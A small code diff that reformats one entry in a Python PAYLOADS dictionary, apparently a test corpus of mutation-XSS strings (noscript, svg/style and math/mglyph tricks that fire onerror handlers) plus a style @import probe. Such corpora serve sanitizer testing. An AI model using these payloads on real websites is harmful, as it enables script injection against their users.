@@ -44,8 +44,8 @@ PAYLOADS = {
     "noscript-mxss": '<noscript><p title="</noscript><img src=' + BROKEN + ' onerror=' + RUN + '>"></noscript>',
     "svg-style-mxss": ('<svg></p><style><a id="</style><img src=' + BROKEN
                        + ' onerror=' + RUN + '>"></style></svg>'),
-    "math-mxss": '<math><mtext><table><mglyph><style><img src=' + BROKEN + ' onerror=' + RUN + '></style></mglyph></table>'
-                 '</mtext></math>',
+    "math-mxss": ('<math><mtext><table><mglyph><style><img src=' + BROKEN + ' onerror=' + RUN
+                  + '></style></mglyph></table></mtext></math>'),
     "style-import": '<style>@import url("https://example.invalid/{id}.css");</style>',
 }
 
